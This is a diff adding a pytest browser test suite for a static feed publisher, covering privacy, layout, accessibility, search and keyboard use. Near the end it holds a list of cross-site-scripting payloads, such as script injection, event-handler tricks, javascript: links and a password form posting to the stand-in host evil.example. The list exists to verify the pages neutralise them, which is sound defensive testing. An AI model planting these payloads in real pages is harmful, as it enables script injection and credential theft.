@@ -1,0 +1,320 @@
+"""The pages in a real browser: what people can do there, whatever they have, and what a page never does."""
+
+from pathlib import Path
+from urllib.parse import quote, urlsplit
+
+import pytest
+from browsing import browser, hosted, needs_chromium, served, visiting
+from helpers import NOW
+from rendering import SITE, make_feed, make_post
+
+from feedpub import render
+from feedpub.model import Artifact
+from feedpub.pipeline import build
+from feedpub.publish.disk import DiskTarget
+from feedpub.sources import load_site
+
+pytestmark = needs_chromium
+__all__ = ["browser"]  # a fixture
+
+EXAMPLE = Path(__file__).parent.parent / "feeds"
+INDEX = ""
+CATEGORY = quote("categories/财经/")
+CODE = "2021/11/09/tide-tables-in-python/"
+CHINESE = "2021/11/18/harbour-master/"
+TABLE = "2021/11/07/20211107-freight-rates/"
+PICTURE = "2021/11/12/a-map-of-the-harbour/"
+SOUND = "2021/11/14/listening-to-the-fog-horn/"
+NOWHERE = "no/such/page/"
+PAGES = [INDEX, CATEGORY, CODE, CHINESE, TABLE, PICTURE, SOUND, NOWHERE]
+WIDTHS = [360, 768, 1280]
+SCHEMES = ["light", "dark"]
+
+
+@pytest.fixture(scope="module")
+def url(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("public")
+
+    def publish(url):
+        build(load_site(EXAMPLE, url=url, output=str(folder)), now=NOW)
+        return folder
+
+    with served(publish) as address:
+        yield address
+
+
+@pytest.fixture(scope="module")
+def host(url, tmp_path_factory):
+    """The same pages on a static host: in the server's sandbox axe cannot run its own script either."""
+    folder = tmp_path_factory.mktemp("static")
+    build(load_site(EXAMPLE, url=url, output=str(folder)), now=NOW)
+    with hosted(folder) as address:
+        yield address
+
+
+@pytest.fixture
+def visit(browser, url):
+    with visiting(browser, url) as tab:
+        yield tab
+
+
+# On every page
+
+
+@pytest.mark.parametrize("path", [one for one in PAGES if one != NOWHERE])
+def test_a_page_asks_nobody_else_for_anything_but_the_pictures_of_posts_and_says_nothing(visit, path):
+    visit.go(path).page.wait_for_timeout(200)
+
+    assert visit.console == []
+    assert {(kind, urlsplit(one).hostname) for kind, one in visit.outside} <= {("image", "img.example.com")}
+    assert visit.page.context.cookies() == []
+    if path == INDEX:
+        assert visit.outside == []
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_no_page_is_wider_than_the_screen(visit, path):
+    page = visit.go(path).page
+    for width in WIDTHS:
+        page.set_viewport_size({"width": width, "height": 800})
+
+        assert page.evaluate("document.documentElement.scrollWidth") <= width
+
+
+@pytest.mark.parametrize("scheme", SCHEMES)
+@pytest.mark.parametrize("path", [*PAGES[:-1], "404.html"])
+def test_axe_finds_nothing_that_keeps_anyone_out(browser, host, path, scheme):
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed")
+    with visiting(browser, host, color_scheme=scheme, viewport={"width": 360, "height": 800}) as tab:
+        found = axe.Axe().run(tab.go(path).page)
+
+    assert found.violations_count == 0, found.generate_report()
+
+
+@pytest.mark.parametrize("path", [INDEX, CATEGORY])
+def test_nothing_moves_while_a_page_of_feeds_comes_up(visit, path):
+    moved = visit.go(path).page.evaluate(
+        """() => new Promise(done => new PerformanceObserver(list => done(list.getEntries().length))
+            .observe({type: "layout-shift", buffered: true}) || setTimeout(() => done(0), 200))"""
+    )
+
+    assert moved == 0
+
+
+@pytest.mark.parametrize("path", [INDEX, CODE, NOWHERE])
+def test_the_dark_is_dark(visit, path):
+    page, brightness = visit.go(path).page, {}
+    for scheme in SCHEMES:
+        page.emulate_media(color_scheme=scheme)
+        color = page.evaluate("getComputedStyle(document.body).backgroundColor")
+        brightness[scheme] = sum(map(int, color.removeprefix("rgb(").removesuffix(")").split(",")))
+
+    assert brightness["dark"] < 150 < 600 < brightness["light"]
+
+
+def test_what_is_not_there_is_said_and_leads_on(visit):
+    visit.go(NOWHERE)
+    visit.page.get_by_role("main").get_by_role("link").first.click()
+
+    assert visit.page.url == f"{visit.url}/"
+
+
+# Finding a feed
+
+
+def names(page):
+    return [one for one in page.locator(".tree .name:visible").all_text_contents() if one]
+
+
+def test_typing_finds_feeds_and_those_above_them(visit):
+    page = visit.go(INDEX).page
+    page.get_by_role("searchbox").press_sequentially("滚动")
+
+    assert names(page) == ["财经", "港口日报", "港口日报－滚动"]
+    assert page.get_by_role("status").text_content() == "找到 1 个订阅源"
+
+
+def test_a_name_above_and_a_name_below_find_together(visit):
+    page = visit.go(INDEX).page
+    page.get_by_role("searchbox").fill("harbour sou")
+
+    assert names(page) == ["Harbour", "Sounds"]
+
+
+def test_what_is_not_found_is_said(visit):
+    page = visit.go(INDEX).page
+    page.get_by_role("searchbox").fill("xyzzy")
+
+    assert names(page) == []
+    assert page.get_by_text("没有这个名字的订阅源。").is_visible()
+    assert not page.get_by_role("heading", name="分类").is_visible()
+
+
+def test_the_keyboard_alone_finds_a_feed_and_opens_it(visit):
+    page = visit.go(INDEX).page
+    for _ in range(40):
+        page.keyboard.press("Tab")
+        if page.evaluate("document.activeElement.type") == "search":
+            break
+    page.keyboard.type("python")
+    page.keyboard.press("Enter")
+    assert page.evaluate("document.activeElement.textContent") == "Code"
+    page.keyboard.press("Enter")
+    page.wait_for_url("**/categories/Code/")
+
+
+def test_escape_brings_all_feeds_back(visit):
+    page = visit.go(INDEX).page
+    before = names(page)
+    page.get_by_role("searchbox").fill("python")
+    page.get_by_role("searchbox").press("Escape")
+
+    assert names(page) == before
+
+
+def test_the_keyboard_shows_where_it_is(visit):
+    page = visit.go(INDEX).page
+    for _ in range(5):
+        page.keyboard.press("Tab")
+        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
+
+
+# Taking it along
+
+
+@pytest.mark.parametrize(
+    ("path", "name", "address"),
+    [
+        (INDEX, "复制地址: Atom 1.0", "atom.xml"),
+        (INDEX, "复制地址: RSS Sounds", "categories/Harbour/Sounds/rss.xml"),
+        (CATEGORY, "复制地址: JSON Feed 1.1", f"{CATEGORY}feed.json"),
+    ],
+)
+@pytest.mark.parametrize("granted", [True, False])
+def test_a_button_copies_an_address(browser, url, path, name, address, granted):
+    permissions = ["clipboard-read", *(["clipboard-write"] if granted else [])]
+    with visiting(browser, url, permissions=permissions) as tab:
+        page = tab.go(path).page
+        if not granted:
+            page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(); }")
+        page.get_by_role("button", name=name, exact=True).press("Enter")
+
+        page.get_by_text("已复制").wait_for(state="attached")
+        assert page.evaluate("navigator.clipboard.readText()") == f"{url}/{address}"
+        assert page.evaluate("document.activeElement.className").startswith("copy")
+
+
+def test_without_scripts_everything_is_there_but_what_they_add(browser, url):
+    with visiting(browser, url, java_script_enabled=False) as tab:
+        page = tab.go(INDEX).page
+
+        assert page.get_by_role("searchbox").count() == 0
+        assert page.get_by_role("button").count() == 0
+        assert len(names(page)) == 11
+        page.get_by_role("link", name="Sounds").click()
+        page.get_by_role("link", name="One post on two shelves").click()
+        assert page.get_by_role("heading", level=1).text_content() == "One post on two shelves"
+
+
+def test_a_picture_that_is_not_there_leaves_no_hole(visit):
+    visit.page.route("https://img.example.com/**", lambda route: route.abort())
+    page = visit.go(CATEGORY).page
+
+    assert page.locator(".entry").count() == 3
+    assert page.locator(".entry img").count() == 0
+
+
+# Reading
+
+
+def test_sound_can_be_played(visit):
+    page = visit.go(SOUND).page
+    player = page.locator("audio")
+
+    assert player.evaluate("one => one.controls && one.preload === 'none'")
+    assert player.bounding_box()["width"] > 200
+
+
+def test_readers_leaf_through_a_category(visit):
+    page = visit.go(CHINESE).page
+    page.locator("a[rel=next]").click()
+    page.wait_for_url("**/pilots/")
+    page.locator("a[rel=prev]").click()
+    page.wait_for_url("**/harbour-master/")
+
+
+def test_a_picture_of_any_size_stays_within_the_page(browser, url):
+    with visiting(browser, url, viewport={"width": 360, "height": 800}) as tab:
+        picture = tab.go(PICTURE).page.locator(".text img").first
+        picture.scroll_into_view_if_needed()
+        box = picture.bounding_box()
+
+    assert 0 < box["width"] <= 360
+
+
+# Posts that mean harm, past a sanitiser that let everything through
+
+HOSTILE = """
+<p id="said">The harbour falls dry.</p>
+<script>window.harm = 1; alert(1)</script>
+<script src="https://evil.example/a.js"></script>
+<script type="module">window.harm = 1</script>
+<img src="x:" onerror="window.harm = 1; alert(2)"><svg onload="alert(3)"><script>alert(4)</script></svg>
+<details open ontoggle="alert(5)"><summary>A</summary>B</details>
+<input autofocus onfocus="alert(6)"><video src="x:" onerror="alert(7)"></video>
+<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.harm = 1; alert(8)</script>"></iframe>
+<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
+<link rel="stylesheet" href="https://evil.example/a.css"><style>h1 { display: none !important }</style>
+<style>@import "https://evil.example/b.css"; #said { background: url(https://evil.example/c.png) }</style>
+<p style="position: fixed; inset: 0; background: red; z-index: 9">Covered</p>
+<base href="https://evil.example/"><a id="away" href="javascript:window.harm = 1; alert(9)">Click</a>
+<form action="https://evil.example/login"><input name="password" value="x"><button id="send">Send</button></form>
+<button formaction="javascript:alert(10)" form="f">X</button>
+<link rel="manifest" href="https://evil.example/m.json"><link rel="preload" as="script" href="https://evil.example/p.js">
+<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
+<portal src="https://evil.example/portal"></portal><math><mi xlink:href="javascript:alert(11)">m</mi></math>
+</div></article></main><script>alert(12)</script>
+"""
+REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">'
+
+
+def published(folder, content):
+    post = make_post(content=content, url=f"{SITE.site.url}/post/")
+    places = render.pages.places([make_feed(post)], SITE)
+    hostile = render.pages.post(post, places, SITE)
+    DiskTarget(folder).publish([hostile, Artifact("rss.xml", b"<rss/>", "application/rss+xml")])
+    return folder
+
+
+@pytest.fixture(params=["feedpub serve", "static host"])
+def hostile(request, browser, tmp_path):
+    """A hostile post, with the header of the server and with nothing but what the page says itself."""
+    if request.param == "static host":
+        host = hosted(published(tmp_path, HOSTILE))
+    else:
+        host = served(lambda _: published(tmp_path, HOSTILE + REFRESH))
+    with host as url, visiting(browser, url) as tab:
+        yield tab.go("post/")
+
+
+def test_a_hostile_post_runs_nothing_loads_nothing_and_leads_nowhere(hostile):
+    page = hostile.page
+    page.wait_for_timeout(300)
+    page.locator("#away").dispatch_event("click")
+    page.locator("#send").dispatch_event("click")
+    page.wait_for_timeout(300)
+
+    assert page.evaluate("window.harm") is None
+    assert hostile.opened == []
+    assert [one for one in hostile.outside if "image" not in one] == []
+    assert page.url == f"{hostile.url}/post/"
+    assert len(page.frames) == 1 or all("evil" not in frame.url for frame in page.frames)
+
+
+def test_a_hostile_post_cannot_dress_the_page(hostile):
+    page = hostile.page
+
+    assert page.get_by_role("heading", level=1).is_visible()
+    assert page.get_by_text("Covered").evaluate("one => getComputedStyle(one).position") == "static"
+    assert page.evaluate("document.baseURI") == f"{hostile.url}/post/"
+    assert page.locator("#said").is_visible()
